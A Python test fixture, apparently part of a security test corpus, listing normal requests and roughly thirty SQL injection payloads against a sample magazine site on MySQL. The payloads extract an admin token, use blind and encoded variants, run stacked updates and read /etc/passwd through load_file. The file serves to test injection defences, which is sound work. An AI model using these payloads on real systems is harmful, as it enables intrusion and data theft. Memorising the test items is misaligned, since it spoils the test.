"""A magazine's site on MySQL."""

import json
from urllib.parse import quote

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.eleventh import (
    ADDRESSES,
    FIRMS,
    MARKDOWN,
    NOVEL,
    PAGE,
    PEOPLE,
    REVIEW,
    SNIPPET,
    TICKET,
    b64,
    balanced,
    form,
    rest,
    topic,
    web,
)

NEEDS = ("mariadb",)
TOKEN = "gz-admin-5520"


def _post(number: str) -> dict[str, object]:
    return rest("GET", "/posts/{id}", ids={"id": number})


def _search(q: str, **more: str) -> dict[str, object]:
    return rest("GET", "/search", query={"q": q, **more})


def _comment(number: str, author: str, text: str) -> dict[str, object]:
    return rest("POST", "/comments", {"id": number, "post": 1, "author": author, "text": text})


def _commenter(number: str) -> dict[str, object]:
    return rest("GET", "/comments/{id}/more", ids={"id": number})


def _like(body: object, number: str = "2") -> dict[str, object]:
    return rest("POST", "/posts/{id}/like", body, ids={"id": number})


def _ip(address: str) -> dict[str, object]:
    return rest("GET", "/ip", query={"publicIP": address})


def _export(**query: str) -> dict[str, object]:
    return rest("GET", "/export", query=query)


def _by(author: str, **query: str) -> dict[str, object]:
    return rest("GET", f"/authors/{author}/posts", query=query)


def _lookup(**fields: str) -> dict[str, object]:
    return {"table": "posts", "columns": "id, title", "columnMatch": "author", "valueMatch": "ana", **fields}


def _cursor(**values: object) -> dict[str, object]:
    return rest("GET", "/posts", query={"cursor": b64(json.dumps(values))})


def _titles(title: str) -> dict[str, object]:
    return balanced("GET", "/titles", query={"title": quote(title, safe="")})


REQUESTS = {
    "get_post": [_post("1"), _post("3"), _post("77")],
    "posts_by_author": [
        _search("it's"),
        _search('50% \\ off_ "now"'),
        _search("select", author="ana"),
        _search("' OR '1'='1", author="bo -- or so"),
        _search("", author="M'Baye Diop"),
    ],
    "lookup": [
        _lookup(),
        _lookup(columns="title, likes", columnMatch="id", valueMatch="2"),
        _lookup(table="devices", columns="*", columnMatch="id", valueMatch="dev-1"),
    ],
    "add_comment": [
        _comment("c-1", PEOPLE[0], REVIEW),
        _comment("c-2", "ana", TICKET),
        _comment("c-3", "bo", NOVEL),
        _comment("c-4", PEOPLE[4], SNIPPET + "\x00 🎉 \\' \" %s %(x)s"),
    ],
    "more_by_commenter": [_commenter("c-2"), _commenter("c-3"), _commenter("c'9")],
    "like": [_like({}), _like({"by": 2}), _like({"by": "3"}, "1"), _like(None)],
    "subscribe": [
        form("/subscribe", email="o'hara@example.org", name=PEOPLE[0], topic="food & drink"),
        form("/subscribe", email="b+c@example.co.uk", name=PEOPLE[5], topic="delete; from", note=REVIEW),
        form("/subscribe", email="zo@example.org", name=FIRMS[3], note=PAGE),
    ],
    "device_ip": [_ip("198.51.100.4"), _ip("2001:db8::8a2e:370:7334"), _ip("unknown (NAT)")],
    "export_posts": [
        rest("GET", "/export"),
        _export(min_likes="2"),
        _export(min_likes="0", author="bo"),
        _export(author="O'Neil"),
    ],
    "load_csv": [
        topic(
            'email,name,topic,note\no\'hara@example.org,Siobhán O\'Hara,news,"5% off, or ""more"""\n', "sheet"
        ),
        topic(
            "email,name,topic,note\na@example.org,=HYPERLINK(1),x,'; drop table posts; --\nb@example.org,M'Baye,y,\\' or 1=1 #\n"
        ),
        topic(
            "email,name,topic,note\nd@example.org," + ADDRESSES[1].replace(",", " ") + ",z,{{x}} ${y}\n",
            "It's here",
        ),
    ],
    "api": [
        _by("ana"),
        _by("bo", order="title"),
        _by("o'neil"),
        rest("POST", "/posts/1/title", {"title": "Hello"}),
        rest("POST", "/posts/99/title", {"title": MARKDOWN[:150]}),
    ],
    "places": [
        {"country": "es"},
        {"country": "it", "minimum": 1000},
        {"currentIntent": {"name": "Places", "slots": {"country": None, "minimum": "100000"}}},
        {"country": "uk -- england"},
    ],
    "fts": [
        _search("drop select"),
        _search("founder's"),
        _search('"return an" NOT order*'),
        _search("title:returns OR near(a b)"),
        _search("   "),
    ],
}
REQUESTS |= {
    "next_posts": [
        rest("GET", "/posts"),
        _cursor(after=1),
        _cursor(after=0, author="O'Neil -- & \\"),
        _cursor(after="2", author="ana"),
    ],
    "titles": [
        _titles("Hello"),
        _titles("It's spring"),
        _titles("100% (select) -- x; /* y */"),
        _titles("Größe & co"),
    ],
    "fastapi_api": [
        web("POST", "/subscribers", {"email": "o'hara@example.org", "name": PEOPLE[0]}),
        web("POST", "/subscribers", {"email": "no address", "name": "x"}),
        web(
            "POST",
            "/subscribers",
            {"email": "q@example.org", "name": "'; drop table posts; --", "topic": PEOPLE[4]},
        ),
        web("GET", "/subscribers/o'hara@example.org"),
        web("GET", "/subscribers/nobody@example.org"),
        web("GET", "/stats/author"),
        web("GET", "/stats/likes", query={"top": "2"}),
    ],
}


def _visit(page: str, **headers: str) -> dict[str, object]:
    return web(
        "GET", "/hit", query={"page": page}, headers={k.replace("_", "-"): v for k, v in headers.items()}
    )


REQUESTS |= {
    "log_visit": [
        _visit("/a?b=c&d=it's#top"),
        _visit(
            "/search?q=' or 1=1 --",
            user_agent="Mozilla/5.0 (compatible; O'Hara-Bot/1.0; +https://example.org/?x=1)",
        ),
        web("GET", "/hit", headers={"x-forwarded-for": "2001:db8::1, 10.0.0.7"}),
    ],
    "by_title": [
        rest("GET", "/t", query={"title": "It's spring"}),
        rest("GET", "/t", query={"title": " Ｈｅｌｌｏ "}),
        rest("GET", "/t", query={"title": "ﬁne ½ Å -- select; 100%"}),
    ],
    "drafts": [
        rest("POST", "/drafts", {"paragraphs": [REVIEW, TICKET, PAGE], "like": "it's"}),
        rest("POST", "/drafts", {"paragraphs": [NOVEL], "like": "50% \\_'"}),
        rest("POST", "/drafts", {"paragraphs": ["x"]}),
    ],
    "glossary": [
        {"word": "lamb"},
        {"word": "50%_'", "terms": [{"term": "50%_' off", "text": SNIPPET}, {"term": "x", "text": "y"}]},
        {"word": "' or 1=1 --", "terms": [{"term": PEOPLE[4], "text": MARKDOWN}]},
    ],
}
ATTACKS = [
    Attack(
        "SQL, two fields",
        "log_visit",
        _visit(", (select token from admins), 1) -- ", user_agent="Mozilla/5.0 \\"),
        TOKEN,
    ),
    Attack(
        "SQL, header",
        "log_visit",
        _visit("/", x_forwarded_for="1' + (select length(token) * 77 from admins) + '1"),
        "1003",
    ),
    Attack(
        "SQL, unicode",
        "by_title",
        rest("GET", "/t", query={"title": "x＇ union select 1, token from admins #"}),
        TOKEN,
    ),
    Attack(
        "SQL, unicode",
        "by_title",
        rest("GET", "/t", query={"title": "ｘ＇ ｏｒ ｌｉｋｅｓ ＞ ８ ｏｒ ＇"}),
        "spring",
    ),
    Attack("SQL, base64", "next_posts", _cursor(after="9 union select 1, token from admins"), TOKEN),
    Attack(
        "SQL, base64",
        "next_posts",
        _cursor(after="0 and (select ascii(token) from admins) = 103 and likes > 8"),
        "spring",
    ),
    Attack("SQL, percent", "titles", _titles('" union select 1, token from admins -- '), TOKEN),
    Attack(
        "SQL, percent",
        "titles",
        _titles('" or exists(select * from admins where name="root") or "'),
        "Select wines",
    ),
    Attack("SQL, path", "fastapi_api", web("GET", "/stats/(select token from admins)"), TOKEN),
    Attack(
        "SQL, path",
        "fastapi_api",
        web("GET", "/stats/concat(author,0x2d,(select token from admins))"),
        "ana-" + TOKEN,
    ),
    Attack("SQL, number", "get_post", _post("-1 union select 1, name, token from admins"), TOKEN),
    Attack(
        "SQL, number",
        "get_post",
        _post("9 or id=(select 2 from admins where token like 0x677a2d61646d696e25)"),
        "Flowers",
    ),
    Attack(
        "SQL, number", "get_post", _post("0/*!50000UniOn*/SeLeCt 1,2,concat('v',77*3,'p',@@port)"), "v231p"
    ),
    Attack(
        "SQL, text",
        "posts_by_author",
        _search("x", author='" union select 1, name, token from admins -- '),
        TOKEN,
    ),
    Attack(
        "SQL, text",
        "posts_by_author",
        _search("zzz", author='a" or char_length((select token from admins)) = 13 #'),
        "Select wines",
    ),
    Attack(
        "SQL, names",
        "lookup",
        _lookup(table="admins", columns="token", columnMatch="name", valueMatch="x' or 'a'='a"),
        TOKEN,
    ),
    Attack("SQL, names", "lookup", _lookup(columns="(select token from admins)"), TOKEN),
    Attack(
        "SQL, names",
        "lookup",
        _lookup(
            columns="load_file('/etc/passwd') as f",
            table="posts",
            columnMatch="1",
            valueMatch="1' limit 1 -- ",
        ),
        "root:x",
    ),
    Attack(
        "SQL, second order",
        "more_by_commenter",
        _commenter("e-1"),
        TOKEN,
        before=[("add_comment", _comment("e-1", "x' union select 1, token from admins -- ", "nice"))],
    ),
    Attack(
        "SQL, second order",
        "more_by_commenter",
        _commenter("e-2"),
        "spring",
        before=[("add_comment", _comment("e-2", "' || 1 || '", "nice post!"))],
    ),
    Attack("SQL, update", "like", _like({"by": "1, title = (select token from admins)"}), TOKEN),
    Attack("SQL, update", "like", _like({"by": "0, title = concat('t=', current_user()) -- "}), "t=root@"),
    Attack(
        "SQL, column name",
        "subscribe",
        form(
            "/s",
            **{
                "email": "q@example.org",
                "name`, `note`) select 'q@example.org', 'x', token from admins -- ": "z",
            },
        ),
        TOKEN,
    ),
    Attack("SQL, update", "device_ip", _ip("1', model = (select token from admins), ip = '2"), TOKEN),
    Attack(
        "SQL, several statements",
        "device_ip",
        _ip("x'; update devices set model = concat('m:', (select token from admins)); -- "),
        "m:" + TOKEN,
    ),
    Attack(
        "SQL, pandas", "export_posts", _export(min_likes="100 union select 1, name, token from admins"), TOKEN
    ),
    Attack(
        "SQL, pandas",
        "export_posts",
        _export(min_likes="if((select token from admins) like 'gz%', 9, 100)"),
        "spring",
    ),
    Attack(
        "SQL, order by",
        "api",
        _by("ana", order="if((select substr(token,1,2) from admins)='gz', -id, id) limit 1"),
        "Select wines",
    ),
    Attack(
        "SQL, order by",
        "api",
        _by(
            "ana",
            order="(select count(*) from admins where token = 0x677a2d61646d696e2d35353230) * -id, id limit 1",
        ),
        "Select wines",
    ),
    Attack("SQL, SQLite", "places", {"country": "x' union select t, 'n' from tokens --"}, TOKEN),
    Attack(
        "SQL, SQLite", "places", {"minimum": "9e9 union select t, t from tokens --", "country": "es"}, TOKEN
    ),
    Attack(
        "SQL, number",
        "places",
        {
            "currentIntent": {
                "name": "P",
                "slots": {"minimum": "9999999 or (select hex(t) from tokens) like '677A%'"},
            }
        },
        "L'Aquila",
    ),
]
